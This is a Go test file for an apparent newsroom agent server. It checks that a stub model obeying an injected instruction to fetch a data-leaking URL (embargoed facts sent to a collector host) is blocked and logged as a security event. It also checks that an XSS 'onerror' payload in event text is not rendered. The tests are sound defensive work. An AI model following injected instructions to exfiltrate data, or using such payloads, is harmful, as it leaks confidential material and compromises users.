package server

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/newsroom-dev/newsroom/agent"
	"github.com/newsroom-dev/newsroom/desk"
	"github.com/newsroom-dev/newsroom/model"
	"github.com/newsroom-dev/newsroom/team"
	"github.com/newsroom-dev/newsroom/tool/web"
	"github.com/newsroom-dev/newsroom/untrusted"
)

// obeying is a model that, the first time it is offered tools, asks for the
// URL an injected instruction would dictate (the brief's facts in its query)
// and then answers as the emulator does.
type obeying struct {
	next   model.Client
	url    string
	called atomic.Bool
}

func (o *obeying) Complete(ctx context.Context, req *model.Request) (*model.Response, error) {
	if len(req.Tools) > 0 && o.called.CompareAndSwap(false, true) {
		return &model.Response{FinishReason: "tool_calls", Usage: model.Usage{PromptTokens: 10, CompletionTokens: 5, Requests: 1},
			ToolCalls: []model.ToolCall{{ID: "call_leak", Name: web.FetchURLName, Arguments: `{"url":"` + o.url + `"}`}}}, nil
	}
	return o.next.Complete(ctx, req)
}

func TestServer_AFetchWithoutProvenanceIsASecurityEventInTheStream(t *testing.T) {
	var requests atomic.Int64
	collector := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		fmt.Fprint(w, "thanks")
	}))
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	collector.Listener = l
	collector.Start()
	t.Cleanup(collector.Close)
	leak := "http://" + l.Addr().String() + "/collect?d=embargoed+name"
	var o *obeying
	e := newEnv(t, envOpts{
		fetch: web.New(web.Config{Allow: []string{l.Addr().String()}}),
		wrap:  func(c model.Client) model.Client { o = &obeying{next: c, url: leak}; return o },
	})
	v := e.create(e.user, `{"task":"Facts: The council met on Monday and approved the harbour plan.","approval":"none"}`)
	e.waitFinished(e.user, v.ID)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var sec []sseEvent
	for _, ev := range e.events(ctx, e.user, v.ID, "") {
		if ev.Type == string(team.EventSecurity) {
			sec = append(sec, ev)
		}
	}
	if !o.called.Load() {
		t.Fatal("the model was never offered tools")
	}
	if len(sec) != 1 {
		t.Fatalf("%d security events in the stream, want 1", len(sec))
	}
	s := sec[0].Event.Security
	if s == nil || s.Kind != untrusted.KindNoProvenance || s.Tool != web.FetchURLName || strings.Contains(s.URL, "embargoed") || !strings.Contains(s.URL, "d=REDACTED") {
		t.Fatalf("security event %+v", s)
	}
	if n := requests.Load(); n != 0 {
		t.Fatalf("%d requests reached the collector", n)
	}
	// The model got the refusal as a tool error.
	run := e.get(e.user, v.ID)
	found := false
	for _, m := range run.Messages {
		for _, ex := range m.ToolCalls {
			if ex.ID == "call_leak" {
				found = ex.IsError && strings.Contains(ex.Result, "no provenance")
			}
		}
	}
	if !found {
		t.Errorf("no tool error saying the URL has no provenance in %+v", run.Messages)
	}
}

func TestE2E_SecurityEventsShowOnThePage(t *testing.T) {
	ctx := browser(t)
	e := newEnv(t, envOpts{noStart: true})
	at := time.Now().UTC()
	article := "# Harbour plan approved\n\nThe council approved the harbour plan."
	sec := untrusted.Event{Kind: untrusted.KindNoProvenance, Tool: web.FetchURLName, URL: "https://collector.example/?d=REDACTED",
		Detail: "refused: https://collector.example/?d=REDACTED has no provenance <img src=x onerror=\"window.__pwned=1\">"}
	id := storeFinishedRun(t, e, at, article, []team.Event{
		{Type: team.EventRunStarted, Task: task},
		{Type: team.EventSecurity, Speaker: desk.Reporter, Security: &sec},
		{Type: team.EventMessage, Message: &agent.Message{Source: desk.Reporter, Content: article, Time: at}},
		{Type: team.EventRunFinished, StopReason: "verdict APPROVE from News_Editor"},
	})
	openRun(t, ctx, e, id)
	waitFor(t, ctx, "the security note", `[...document.querySelectorAll('#stream li.note.n-security')].some(li => li.textContent.includes('has no provenance'))`)
	if eval[bool](t, ctx, `window.__pwned === 1`) {
		t.Error("the event's text ran as HTML")
	}
}
